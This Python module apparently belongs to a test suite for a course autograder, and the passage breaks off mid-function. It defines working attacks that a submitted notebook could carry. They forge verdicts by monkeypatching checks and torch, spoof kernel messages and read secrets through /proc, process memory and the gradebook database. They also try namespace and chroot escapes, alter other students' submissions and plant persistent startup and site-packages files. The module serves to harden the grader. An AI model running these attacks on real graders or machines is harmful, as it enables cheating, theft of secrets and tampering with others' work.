"""Attacks on a grader: what a student may hand in to get points, secrets, or in the way.

Each starts from the same wrong answers (`proving_ground.WRONG`) and changes the notebook's cells or
metadata, or the folder handed in. The text of the attacks is what an attacker writes who knows this
course, its grader, and every path on the machine.

An attack that has done what it should not be able to do, and leaves no other trace of it, prints
"proof-" and its mark. What could harm the machine without a jail asks first whether it is in one.
"""

import json
import os
import shutil
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from textwrap import dedent

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output


@dataclass(frozen=True)
class Attack:
    """A way to attack.

    Attributes:
        name: Short and unique.
        family: What kind it is.
        change: What it does to the notebook, before that is handed in.
        place: What it does to the folder handed in.
        stock: What it gets where nbgrader grades as it comes, by the words of
            `proving_ground.violations`; empty where it fails there, or was not tried.
        safe: Whether it may run without a jail.
        sample: Whether it is among those that `nbgrader autograde` is tried with.
    """

    name: str
    family: str
    change: Callable | None = None
    place: Callable | None = None
    stock: str = ""
    safe: bool = True
    sample: bool = False

    @property
    def harms(self):
        """Whether it is out for more than its own points, or may do harm on the way."""
        return self.family in ("writing", "outliving", "network", "other processes", "using up")


ATTACKS: list[Attack] = []

# Nothing harmful happens on the machine itself, should the jail not be there.
GUARD = """\
import os
try:
    if os.readlink("/proc/self/ns/pid") == HOST:
        raise RuntimeError("this would harm the machine: not in a jail")
except OSError:
    pass
"""

# What several attacks begin with: look for secrets in a text, and walk over files.
LOOK = r"""
import os, re, sys

try:
    JAILED = os.readlink("/proc/self/ns/pid") != HOST
except OSError:
    JAILED = True

def look(text):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    for found in set(re.findall(r"CANARY_[a-z]+_[0-9a-f]{16}", str(text))):
        print("found", found)

def read(path, most=4_000_000):
    try:
        with open(path, "rb") as file:
            look(file.read(most))
    except OSError as error:
        print(type(error).__name__, path)
"""


def find(cells, grade_id):
    """A cell by its `grade_id`."""
    return next(c for c in cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def head(about):
    """The words that an attack's text may use."""
    return (
        f"MARK, STUDENT, LESSON = {about.mark!r}, {about.student!r}, {about.lesson!r}\n"
        f"COURSE, HOME, TMP = {str(about.course)!r}, {str(about.home)!r}, {str(about.tmp)!r}\n"
        f"PACKAGES, PORT, HOST = {str(about.packages)!r}, {about.port}, {about.host!r}\n"
        f"UNIX, ABSTRACT = {about.unix!r}, {about.abstract!r}\n"
    )


def code(name, family, text, *, where="skipnet3", stock="", safe=True, sample=False, look=False):
    """An attack by Python, after the answer `where`, or instead of it, or in a cell of its own."""
    text = dedent(text).strip("\n") + "\n"

    def change(made, about):
        begin = head(about) + (LOOK if look else "") + ("" if safe else GUARD)
        if where == "own":  # directly before the first test
            at = made.cells.index(find(made.cells, "skipnet3-wiring"))
            made.cells.insert(at, new_code_cell(begin + text))
        elif where == "last":
            made.cells.append(new_code_cell(begin + text))
        elif where == "markdown":
            find(made.cells, "explain-seeds").source = text.replace("MARK", about.mark)
        else:
            cell = find(made.cells, where)
            cell.source += "\n\n" + begin + text

    ATTACKS.append(Attack(name, family, change, stock=stock, safe=safe, sample=sample))


def cells(family, *, stock="", sample=False):
    """An attack by the notebook's cells and metadata: a function of them."""

    def register(function):
        name = function.__name__.replace("_", "-")
        change = lambda made, about: function(made, about)  # noqa: E731
        ATTACKS.append(Attack(name, family, change, stock=stock, sample=sample))
        return function

    return register


def folder(family, *, stock="", safe=True, sample=False):
    """An attack by the folder handed in: a function of it, called when the notebook is there."""

    def register(function):
        name = function.__name__.replace("_", "-")
        ATTACKS.append(Attack(name, family, None, function, stock, safe, sample))
        return function

    return register


# Forging the verdict, where it is reached: by the names, modules and classes a test uses. ---------

FORGE = "forged verdict"

code(
    "rebind-the-check",
    FORGE,
    "check_wiring = lambda *arguments, **more: print('all well')",
    stock="points",
    sample=True,
)
code(
    "patch-the-checks-module",
    FORGE,
    """
    import re
    import sys
    import types
    import skiplab.checks

    for name, module in list(sys.modules.items()):
        if name.startswith("skiplab.checks"):
            for key, value in list(vars(module).items()):
                known = re.match("_?(check|judge|report)", key)
                if known and isinstance(value, types.FunctionType):
                    setattr(module, key, lambda *arguments, **more: None)
    check_wiring.__code__ = (lambda *arguments, **more: None).__code__
    """,
    stock="points",
)
code(
    "verdict-always-passed",
    FORGE,
    """
    import skiplab.checks.judge as judge

    judge.Verdict.passed = property(lambda self: True)
    judge.RELATIVE_TOLERANCE = judge.ABSOLUTE_TOLERANCE = float("inf")
    """,
    stock="points",
)
code(
    "torch-says-equal",
    FORGE,
    """
    import torch

    yes = lambda *arguments, **more: True
    torch.equal = torch.allclose = yes
    torch.isclose = torch.eq = lambda left, *rest, **more: torch.ones_like(left, dtype=torch.bool)
    torch.testing.assert_close = lambda *arguments, **more: None
    torch.Tensor.equal = torch.Tensor.allclose = yes
    torch.Tensor.__eq__ = torch.eq
    torch.Tensor.__ne__ = torch.Tensor.__gt__ = torch.zeros_like
    torch.Tensor.__hash__ = lambda self: id(self)
    torch.Tensor.all = yes
    torch.Tensor.item = lambda self: 0.0
    """,
)
code(
    "swap-modules",
    FORGE,
    """
    import sys
    import types

    class Anything(types.ModuleType):
        def __getattr__(self, name):
            return lambda *arguments, **more: True

    for name in [name for name in sys.modules if name.split(".")[0] in ("skiplab", "torch")]:
        sys.modules[name] = Anything(name)
    """,
)
code(
    "patch-builtins",
    FORGE,
    """
    import builtins

    builtins.isinstance = lambda *arguments: True
    builtins.all = builtins.any = lambda *arguments: True
    builtins.abs = builtins.max = builtins.sum = lambda *arguments, **more: 0
    builtins.AssertionError = type("Quiet", (Warning,), {})
    """,
)
code(
    "reference-for-answer",
    FORGE,
    """
    from skiplab.checks.exercise import all_exercises

    SkipNet3 = all_exercises()["skipnet3"].network()
    """,
    stock="points",
    sample=True,
)
code(
    "any-reference-in-the-package",
    FORGE,
    """
    import importlib
    import pkgutil
    import skiplab

    for found in pkgutil.walk_packages(skiplab.__path__, "skiplab."):
        try:
            module = importlib.import_module(found.name)
        except BaseException as error:
            print(found.name, type(error).__name__)
            continue
        for value in [*vars(module).values(), *getattr(module, "EXERCISES", ())]:
            if getattr(value, "answer", None) == "skipnet3" and hasattr(value, "network"):
                SkipNet3 = value.network()
    """,
    stock="points",
)
code(
    "reference-by-frames",
    FORGE,
    """
    import sys

    def forward(self, X):
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if hasattr(value, "misconceptions") and hasattr(value, "network"):
                    return value.network().forward(self, X)
            frame = frame.f_back
        return self.relu(self.layer_3(X))

    SkipNet3.forward = forward
    """,
    stock="points",
)
code(
    "reference-by-gc",
    FORGE,
    """
    import gc

    def forward(self, X):
        for value in gc.get_objects():
            if type(value).__name__ == "Exercise" and value.answer == "skipnet3":
                return value.network().forward(self, X)
        return self.relu(self.layer_3(X))

    SkipNet3.forward = forward
    """,
    stock="points",
)
code(
    "misconception-as-reference",
    FORGE,
    """
    import torch.utils.data
    from skiplab.checks import wrong_chains

    print("proof-" + MARK, len(wrong_chains.misconceptions("SkipNet3", 3, True)))
    """,
    where="own",
    stock="limit",
)
code(
    "judge-within-reach",
    FORGE,
    """
    import glob
    import sys

    for folder in [*sys.path, PACKAGES]:
        for path in glob.glob(f"{folder}/skiplab/**/*judge*", recursive=True) + glob.glob(
            f"{folder}/skiplab/**/wrong_chains*", recursive=True
        ):
            if len(open(path, "rb").read()) > 100:
                print("proof-" + MARK, path)
    """,
    where="own",
    stock="limit",
)
code(
    "solutions-by-path",
    FORGE,
    """
    import glob
    import json

    for path in [
        *glob.glob(f"{COURSE}/source/{LESSON}/*.ipynb"),
        *glob.glob(f"{PACKAGES}/s*/{LESSON}/*.ipynb"),
    ]:
        for cell in json.load(open(path))["cells"]:
            about = cell["metadata"].get("nbgrader", {})
            if about.get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]))
    """,
    stock="points",
    sample=True,
)

# … and by what is told of an answer, beside the student's code.

for name, text in {
    "nothing-seen": "return observe.WiringObservation()",
    "half-seen": "seen.runs = seen.runs[:0] or [one for one in seen.runs if one.gradients is None]",
    "no-numbers": """
        for one in seen.runs:
            one.output = one.output * float("nan")
            one.gradients = one.gradients and {
                key: value if value is None else value * float("nan")
                for key, value in one.gradients.items()
            }
    """,
    "the-same-again": "seen.runs = seen.runs[:1] * len(seen.runs)",
    "scalars": """
        for one in seen.runs:
            one.output = torch.zeros(())
            one.gradients = {}
    """,
    "other-types": """
        for one in seen.runs:
            one.output = one.output.to(torch.complex64)
            one.returned, one.trial, one.call = "Tensor" * 1000, True, "0 train"
    """,
}.items():
    code(
        f"told-{name}",
        FORGE,
        f"""
        import skiplab.checks as checks
        from skiplab.checks import observe

        real = observe.observe_wiring

        def observe_wiring(network, challenge):
            seen = real(network, challenge)
            {dedent(text).strip().replace(chr(10), chr(10) + " " * 12)}
            return seen

        observe.observe_wiring = observe_wiring
        for module in (checks, getattr(checks, "crossing", None)):
            if hasattr(module, "observe_wiring"):
                module.observe_wiring = observe_wiring
        """,
    )

# … and by the shell that runs the cells.

SHELL = "patched shell"

code(
    "input-transformer",
    SHELL,
    """
    def leave_out(lines):
        text = "".join(lines)
        return ["pass\\n"] if "assert" in text or "check_" in text else lines

    get_ipython().input_transformers_post.append(leave_out)
    """,
    stock="points",
    sample=True,
)
code(
    "ast-transformer",
    SHELL,
    """
    import ast

    class NoTests(ast.NodeTransformer):
        def visit_Assert(self, node):
            return None

        def visit_Expr(self, node):
            return None if "check_" in ast.dump(node) else node

    get_ipython().ast_transformers.append(NoTests())
    """,
    stock="points",
)
code(
    "patched-do-execute",
    SHELL,
    """
    kernel = get_ipython().kernel
    real = kernel.do_execute

    async def do_execute(code, *arguments, **more):
        if "assert" in code or "check_" in code:
            code = "pass"
        return await real(code, *arguments, **more)

    kernel.do_execute = do_execute
    """,
    stock="points",
)
code(
    "patched-run-code",
    SHELL,
    """
    async def run_code(self, *arguments, **more):
        return False

    type(get_ipython()).run_code = run_code
    type(get_ipython()).run_cell = lambda *arguments, **more: None
    """,
    stock="points",
)
code(
    "hook-before-each-cell",
    SHELL,
    """
    def prepare(*arguments):
        space = get_ipython().user_ns
        space["check_wiring"] = lambda *arguments, **more: None
        space["total"] = lambda values: {3: 6 if values == [1, 2, 3] else 8}[len(values)]

    get_ipython().events.register("pre_run_cell", prepare)
    """,
    stock="points",
)
code(
    "custom-exception-handler",
    SHELL,
    """
    shell = get_ipython()
    shell.set_custom_exc((BaseException,), lambda *arguments, **more: ["all well"])
    shell._showtraceback = shell.showtraceback = lambda *arguments, **more: None
    """,
)
code(
    "lazy-namespace",
    SHELL,
    """
    class Space(dict):
        def __getitem__(self, name):
            if name == "check_wiring":
                return lambda *arguments, **more: None
            if name == "total":
                return lambda values: 6 if len(values) == 3 and values[0] == 1 else 8
            return dict.__getitem__(self, name)

    get_ipython().user_ns = Space(get_ipython().user_ns)
    """,
)

# … and by the messages that tell of it.

SPOOF = "spoofed messages"

code(
    "send-drops-errors",
    SPOOF,
    """
    import jupyter_client.session

    real = jupyter_client.session.Session.send

    def send(self, stream, kind, content=None, *arguments, **more):
        if kind == "error" or kind == "stream" and content["name"] == "stderr":
            return None
        if kind == "execute_reply":
            content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        return real(self, stream, kind, content, *arguments, **more)

    jupyter_client.session.Session.send = send
    """,
    stock="points",
    sample=True,
)
code(
    "clear-the-error",
    SPOOF,
    """
    from IPython.display import clear_output

    get_ipython().events.register("post_run_cell", lambda *arguments: clear_output())
    """,
)
code(
    "answer-in-the-kernels-name",
    SPOOF,
    """
    import os

    kernel = get_ipython().kernel

    def answer(*arguments):
        code = get_ipython().user_ns["_ih"][-1] if arguments else ""
        parent = kernel.get_parent("shell")
        content = parent.get("content", {}).get("code", "")
        if "assert" not in content and "check_" not in content:
            return
        send = kernel.session.send
        result = {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}
        send(kernel.iopub_socket, "execute_result", result, parent=parent)
        good = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        for stream in (getattr(kernel, "shell_stream", None), kernel.control_stream):
            if stream is not None:
                ident = kernel._parent_ident.get("shell")
                send(stream, "execute_reply", good, parent=parent, ident=ident)
        send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
        import threading
        threading.Event().wait(1)

    get_ipython().events.register("pre_run_cell", answer)
    """,
)
code(
    "second-voice-on-iopub",
    SPOOF,
    """
    import json
    import subprocess
    import sys
    import textwrap
    from ipykernel.connect import get_connection_file

    talk = '''
    import json, sys, time, zmq
    from jupyter_client.session import Session

    about = json.load(open(sys.argv[1]))
    socket = zmq.Context().socket(zmq.DEALER)
    between = ":" if about["transport"] == "tcp" else "-"
    socket.connect(f"{about['transport']}://{about['ip']}{between}{about['shell_port']}")
    session = Session(key=about["key"].encode())
    ask = {"code": "check_wiring = print; total = lambda values: 6", "silent": False}
    for _ in range(50):
        session.send(socket, "execute_request", ask)
        time.sleep(0.05)
    '''
    lines = textwrap.dedent(talk)
    subprocess.Popen([sys.executable, "-c", lines, get_connection_file(), MARK])
    import time
    time.sleep(1)
    """,
)
code(
    "malformed-messages",
    SPOOF,
    """
    import json

    kernel = get_ipython().kernel
    session, socket = kernel.session, kernel.iopub_socket

    def send(kind, content, **more):
        session.send(socket, kind, content, parent=kernel.get_parent("shell"), **more)

    for content in ({}, [], None, 3, "x", {"name": [], "text": 5}, {"execution_state": {}},
                    {"data": 1, "metadata": 2}, {"data": {"text/plain": {"a": 1}}},
                    {"ename": 1, "evalue": [], "traceback": 5}, {"data": {"image/png": 7}},
                    {"transient": {"display_id": []}, "data": {}, "metadata": {}}, {"wait": {}},
                    {"execution_count": "x" * 1000, "code": None}, {"data": {}, "transient": 3}):
        for kind in ("stream", "status", "display_data", "execute_result", "error", "\\x00",
                     "clear_output", "update_display_data", "execute_input", "comm_open"):
            try:
                send(kind, content)
            except Exception as error:
                print(type(error).__name__)

    def raw(*frames):
        pack = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in frames]
        socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(pack), *pack])

    head = dict(session.msg_header("stream"))
    parent = json.loads(json.dumps(kernel.get_parent("shell")["header"], default=str))
    head = json.loads(json.dumps(head, default=str))
    raw(head, parent, {}, b"[" * 200_000 + b"]" * 200_000)
    raw(head, parent, {}, b'{"name": "stdout", "text": ' + b"9" * 100_000 + b"}")
    raw(head, parent, {}, b"\\xff\\xfe")
    raw([], [], [], [])
    raw(head | {"date": "never", "msg_type": None}, parent, {}, {})
    socket.send_multipart([b"x"])
    socket.send_multipart([b"<IDS|MSG>"])
    """,
    where="own",
)
code(
    "number-for-a-result",
    SPOOF,
    """
    shell = get_ipython()
    send = shell.kernel.session.send

    def after(result):
        send(shell.kernel.iopub_socket, "execute_result",
             {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1},
             parent=shell.kernel.get_parent("shell"))

    shell.events.register("post_run_cell", after)
    shell.showtraceback = lambda *arguments, **more: send(
        shell.kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1},
        parent=shell.kernel.get_parent("shell"))
    5
    """,
)
code(
    "reply-and-die",
    SPOOF,
    """
    import os

    class Dies:
        def __eq__(self, other):
            kernel = get_ipython().kernel
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"},
                                parent=kernel.get_parent("shell"))
            os._exit(0)

    limit = Dies()

    def total(values):
        os._exit(0)
    """,
    where="total",
)

# Values and classes that are not what they seem.

LIES = "lying values"

code(
    "always-equal",
    LIES,
    """
    class Equal:
        def __eq__(self, other):
            return True

        def __mul__(self, other):
            return self

        __hash__ = None

    limit = Equal()

    def total(values):
        return Equal()

    class Same(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, arguments=(), more=None):
            return True

    steps = torch.zeros(3).as_subclass(Same)
    """,
    where="total",
    stock="points",
    sample=True,
)
code(
    "number-of-its-own-kind",
    LIES,
    """
    class Number(int):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __mul__ = __rmul__ = __add__ = lambda self, other: self
        __hash__ = int.__hash__
        __class__ = int
        __reduce__ = lambda self: (int, (10,))

    class Real(float):
        __eq__ = lambda self, other: True
        __hash__ = float.__hash__

    limit = Number(7)
    total = lambda values: Real(1)
    """,
    where="total",
)
code(
    "class-that-answers-anything",
    LIES,
    """
    class Anything(type):
        def __getattr__(cls, name):
            return lambda *arguments, **more: torch.zeros(1)

        def __call__(cls, *arguments, **more):
            return SkipNet3

        def __instancecheck__(cls, instance):
            return True

        def __subclasscheck__(cls, other):
            return True

        def __eq__(cls, other):
            return True

        __hash__ = type.__hash__

    class SkipNet3(metaclass=Anything):
        __name__ = "SkipNet3"
        __module__ = "skiplab.checks.lesson_2"
    """,
)
code(
    "network-that-changes-the-question",
    LIES,
    """
    class SkipNet3(SkipNet3):
        def forward(self, X):
            X.data.zero_()
            for weight in self.parameters():
                weight.data.zero_()
            return super().forward(X)

        def load_state_dict(self, *arguments, **more):
            return None

        def named_parameters(self, *arguments, **more):
            return iter(())

    SkipNet3.__name__ = "SkipNet3"
    """,
)
code(
    "tensor-with-its-own-mind",
    LIES,
    """
    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, arguments=(), more=None):
            name = getattr(function, "__name__", "")
            if name in ("equal", "allclose", "isclose", "eq", "__eq__", "all", "isfinite"):
                return torch.ones(1, dtype=torch.bool)
            if name in ("sub", "__sub__", "rsub", "abs", "max", "norm"):
                return torch.zeros(1)
            return super().__torch_function__(function, types, arguments, more or {})

    class SkipNet3(SkipNet3):
        def forward(self, X):
            return super().forward(X).as_subclass(Yes)

    SkipNet3.__name__ = "SkipNet3"
    steps = torch.zeros(3).as_subclass(Yes)
    """,
)
code(
    "pickle-bomb",
    LIES,
    """
    import os

    class Bomb(list):
        def __reduce__(self):
            return os.system, (f"touch {HOME}/{MARK} {TMP}/{MARK} {COURSE}/{MARK} /tmp/{MARK}",)

        __reduce_ex__ = lambda self, protocol: self.__reduce__()
        __getstate__ = __reduce__

    limit = steps = Bomb([1.0, 2.0, 3.0])
    total = lambda values: Bomb()
    SkipNet3.forward = lambda self, X: Bomb()
    """,
    where="total",
)
code(
    "huge-values",
    LIES,
    """
    limit = "9" * 300_000_000
    steps = torch.zeros(1).expand(10**12)
    total = lambda values: [0] * 50_000_000
    SkipNet3.forward = lambda self, X: torch.zeros(1).expand(10**6, 10**6)
    """,
    where="total",
)
code(
    "answers-of-ones-own",
    LIES,
    """
    import base64
    import itertools
    import numpy as np
    import skiplab.checks.crossing as crossing

    pack = crossing.pack
    odd = itertools.cycle([
        pack(np.zeros(0)), pack(True), pack(float("nan")), pack({}), pack(torch.zeros(0)),
        pack(torch.ones(1, dtype=torch.bool)),
        b"", b"\\xff" * 100, (10**9).to_bytes(8, "little"), (5).to_bytes(8, "little") + b"[[[[[",
        bytes(70_000_000), b'\\x02' + bytes(7) + b"{}" + b"9" * 1_000_000,
    ])
    crossing.answer = lambda question, names: next(odd)
    """,
    where="total",
)
code(
    "deep-and-endless-values",
    LIES,
    """
    import itertools

    limit = []
    for _ in range(200_000):
        limit = [limit]
    steps = []
    steps.append(steps)
    total = lambda values: itertools.count()
    SkipNet3.forward = lambda self, X: limit
    """,
    where="total",
)
code(
    "numbers-that-are-none",
    LIES,
    """
    limit = float("nan")
    steps = torch.full((3,), float("nan"))
    total = lambda values: float("inf")
    SkipNet3.forward = lambda self, X: self.skip_layer(X) * float("nan")
    """,
    where="total",
)
code(
    "names-that-lie",
    LIES,
    """
    class Module(type(nn.Module)):
        __class__ = property(lambda cls: type)

    class Net(SkipNet3):
        @property
        def __class__(self):
            raise SystemExit

        def __getattribute__(self, name):
            if name.startswith("layer") and "proof" in name:
                return None
            return super().__getattribute__(name)

        def __repr__(self):
            raise KeyboardInterrupt

        __str__ = __repr__

    Net.__name__ = Net.__qualname__ = "'] = None #\\x00\\n" * 1000
    Net.__module__ = "builtins"
    SkipNet3 = Net
    """,
)
code(
    "memorised-tests",
    LIES,
    """
    limit = 10

    def total(values):
        return {(1, 2, 3): 6}[tuple(values)]
    """,
    where="total",
    stock="read",  # a test that fails shows its own text
    sample=True,
)

# Reading what is not the student's.

READ = "reading"

code(
    "hidden-tests-by-history",
    READ,
    """
    def tell(*arguments):
        look(get_ipython().user_ns["_ih"])
        for name in ("_i", "_ii", "In", "remark"):
            look(get_ipython().user_ns.get(name))

    get_ipython().events.register("post_run_cell", tell)
    """,
    look=True,
    stock="told",
    sample=True,
)
code(
    "hidden-tests-by-frames",
    READ,
    """
    import inspect
    import linecache

    def total(values):
        for frame in inspect.stack(context=50):
            look(frame)
            look(frame.frame.f_globals.get("remark"))
            look(inspect.getsource(frame.frame.f_code) if frame.filename else "")
        look(linecache.cache)
        return 6 if len(values) == 3 and values[0] == 1 else 0

    limit = 10
    """,
    where="total",
    look=True,
    stock="told",
)
code(
    "hidden-tests-by-gc",
    READ,
    """
    import gc

    def total(values):
        for value in gc.get_objects():
            if isinstance(value, (dict, list, tuple)) and len(value) < 10_000:
                for text in value.values() if isinstance(value, dict) else value:
                    if type(text) is str and "CANARY" in text:
                        look(text)
        return 6
    """,
    where="total",
    look=True,
)
code(
    "environment",
    READ,
    """
    look(os.environ)
    for pid in os.listdir("/proc") if JAILED else ("self", os.getppid()):
        if str(pid).isdigit() or pid == "self":
            for name in ("environ", "cmdline"):
                read(f"/proc/{pid}/{name}")
    """,
    where="own",
    look=True,
    stock="told",
    sample=True,
)
code(
    "memory-of-the-grader",
    READ,
    """
    import time

    def scan(pid, until):
        for line in open(f"/proc/{pid}/maps"):
            span, rights, *rest = line.split()
            begin, end = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or end - begin > 200_000_000 or time.time() > until:
                continue
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(begin)
                    text = memory.read(end - begin)
                for found in set(re.findall(rb"CANARY_[a-z]+_[0-9a-f]{16}", text)):
                    print("found", found.decode())
            except (OSError, ValueError):
                pass

    pid, until = os.getppid(), time.time() + 3
    while pid > 1:
        try:
            scan(pid, until)
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except OSError as error:
            print(error)
            break
    """,
    where="own",
    look=True,
    safe=False,
)
code(
    "inherited-files",
    READ,
    """
    import fcntl

    for number in range(3, 256):
        try:
            path = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if path.startswith("/") and not path.startswith("/dev/"):
            print(number, path)
            try:
                look(os.pread(number, 1_000_000, 0))
            except OSError:
                pass
            # A folder that is open is a way out of any jail.
            if os.path.isdir(f"/proc/self/fd/{number}"):
                for name in os.listdir(number):
                    print("proof-" + MARK, name)
    """,
    where="own",
    look=True,
)
code(
    "walk-over-the-disk",
    READ,
    """
    import time

    until = time.time() + 4
    skip = set("proc sys usr lib lib64 bin sbin boot site-packages node_modules .git".split())
    kinds = (".ipynb", ".db", ".py", ".txt", ".json", ".csv", ".html", ".md", ".env")
    everywhere = ("/root", "/home", "/tmp", "/var/tmp", "/srv", "/mnt", "/") if JAILED else ()
    for start in (COURSE, HOME, TMP, *everywhere):
        for folder, folders, files in os.walk(start):
            folders[:] = [name for name in folders if name not in skip]
            if time.time() > until:
                break
            for name in files:
                if name.endswith(kinds):
                    path = os.path.join(folder, name)
                    if os.path.isfile(path):
                        try:
                            with open(path, "rb") as file:
                                text = file.read(4_000_000)
                        except OSError:
                            continue
                        if b"CANARY_" in text:
                            look(text)
    """,
    where="own",
    look=True,
    stock="told",
    sample=True,
)
code(
    "secrets-by-path",
    READ,
    """
    import glob
    import sqlite3

    read(f"{HOME}/notes.txt")
    read(f"{TMP}/notes.txt")
    read(os.path.expanduser("~/notes.txt"))
    for pattern in (f"{COURSE}/source/*/*", f"{COURSE}/submitted/*/*/*", "../../../source/*/*",
                    "../../*/*/*.ipynb"):
        for path in glob.glob(pattern):
            if os.path.isfile(path):
                read(path)
    for path in (f"{COURSE}/gradebook.db", "../../../gradebook.db"):
        read(path)
        try:
            book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            for row in book.execute("select * from comment"):
                look(row)
        except sqlite3.Error as error:
            print(error)
    """,
    where="own",
    look=True,
    stock="told",
    sample=True,
)
code(
    "other-roots",
    READ,
    """
    import ctypes

    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for path in (f"/proc/{pid}/root{COURSE}/gradebook.db", f"/proc/{pid}/cwd/gradebook.db",
                     f"/proc/{pid}/root{HOME}/notes.txt"):
            read(path)
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/m", exist_ok=True)
    for kind, what in ((b"proc", b"proc"), (b"sysfs", b"none"), (b"overlay", b"none")):
        libc.mount(what, b"/tmp/m", kind, 0, None)
    libc.umount2(b"/tmp", 2)
    libc.umount2(HOME.encode(), 2)
    read(f"{HOME}/notes.txt")
    read(f"{TMP}/notes.txt")
    """,
    where="own",
    look=True,
    safe=False,
)
code(
    "new-user-namespace",
    READ,
    """
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        print("unshare", libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
        for target in (COURSE, HOME, TMP):
            parent = target
            while parent != "/":
                libc.umount2(parent.encode(), 2)
                parent = os.path.dirname(parent)
        libc.chroot(b"/proc/1/root")
        read(f"{HOME}/notes.txt")
        read(f"{COURSE}/gradebook.db")
        sys.stdout.flush()
        os._exit(0)
    os.wait()
    """,
    where="own",
    look=True,
    safe=False,
)

# Writing what outlives the submission.

WRITE = "writing"

code(
    "gradebook",
    WRITE,
    """
    import glob
    import sqlite3

    for path in (f"{COURSE}/gradebook.db", "../../../gradebook.db"):
        try:
            book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            mine = ("(select n.id from submitted_notebook n join submitted_assignment a"
                    f" on n.assignment_id = a.id where a.student_id = '{STUDENT}')")
            book.execute(f"update grade set manual_score = 5 where notebook_id in {mine}")
            book.execute("update grade set manual_score = 0 where manual_score = 2")
            book.commit()
            book.close()
        except sqlite3.Error as error:
            print(error)
    """,
    where="own",
    stock="points",
    sample=True,
)
code(
    "neighbours-submission",
    WRITE,
    """
    import glob
    import os

    honest = sorted(glob.glob(f"{COURSE}/submitted/*-honest/{LESSON}/{LESSON}.ipynb"))
    for path in [path for path in honest if path.split("/")[-3] > STUDENT][:1]:
        if True:
            try:
                text = open(path).read()
                open(path, "w").write(text.replace("return self.relu(X + S)", "return X"))
            except OSError as error:
                print(error)
    """,
    where="own",
    stock="neighbour",
)
code(
    "neighbours-result",
    WRITE,
    """
    import glob

    folders = sorted(glob.glob(f"{COURSE}/autograded/*-honest/*"))
    before = [path for path in folders if path < f"{COURSE}/autograded/{STUDENT}"]
    for folder in before[-1:]:
        for path in (*glob.glob(f"{folder}/*.ipynb"), f"{folder}/{MARK}"):
            try:
                with open(path, "a") as file:
                    file.write(f"<!-- {MARK} -->")
            except OSError as error:
                print(error)
    """,
    where="own",
    stock="left",
)
code(
    "lesson-and-release",
    WRITE,
    """
    import glob

    lesson = [*glob.glob(f"{COURSE}/source/*/*"), *glob.glob(f"{COURSE}/release/*/*")]
    for path in [*lesson, f"{COURSE}/nbgrader_config.py"]:
        try:
            with open(path, "a") as file:
                file.write("\\n")
            with open(f"{path}.{MARK}", "w") as file:
                file.write(MARK)
        except OSError as error:
            print(error)
    """,
    where="last",
    stock="left",
)
code(
    "startup-files",
    WRITE,
    """
    import os

    body = f"# {MARK}\\nimport builtins; builtins.check_wiring = print\\n"
    for home in (HOME, os.path.expanduser("~")):
        for path in (".ipython/profile_default/startup/0.py", ".config/matplotlib/matplotlibrc",
                     ".ipython/profile_default/ipython_config.py", ".jupyter/nbgrader_config.py",
                     ".local/lib/python3.11/site-packages/usercustomize.py",
                     ".bashrc", f".{MARK}"):
            try:
                os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
                with open(f"{home}/{path}", "a") as file:
                    file.write("" if path.endswith(("rc", "json")) else body)
            except OSError as error:
                print(error)
    """,
    where="own",
    stock="left",
)
code(
    "startup-code-for-the-next",
    WRITE,
    """
    import os

    folder = os.path.expanduser("~/.ipython/profile_default/startup")
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/0.py", "w") as file:
        file.write(f"# {MARK}\\nimport torch\\ntorch.nn.Linear.forward = lambda self, X: X\\n")
    """,
    where="own",
    stock="neighbour",
)
code(
    "temporary-files",
    WRITE,
    """
    import os
    import tempfile

    for folder in (TMP, "/tmp", "/var/tmp", "/dev/shm", "/run", "/", tempfile.gettempdir(),
                   "..", "../..", COURSE, HOME):
        try:
            with open(f"{folder}/{MARK}", "w") as file:
                file.write("for the next one")
        except OSError as error:
            print(error)
    """,
    where="own",
    stock="left",
    sample=True,
)
code(
    "site-packages",
    WRITE,
    """
    import site
    import sys
    import skiplab.checks
    import torch

    for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
        for name in ("zz.pth", "sitecustomize.py", "usercustomize.py", f"{MARK}.py"):
            try:
                with open(f"{folder}/{name}", "a") as file:
                    file.write(f"import sys  # {MARK}\\n")
                print("proof-" + MARK, folder)
            except OSError as error:
                print(error)
    for module in (skiplab.checks, torch):
        for path in (module.__file__, module.__cached__):
            try:
                with open(path, "r+b"):
                    print("proof-" + MARK, path)
            except OSError as error:
                print(error)
    """,
    where="own",
    safe=False,
)
code(
    "keys-of-the-system",
    WRITE,
    """
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for ring in (-3, -4, -5):  # of the session, the user, the user's session
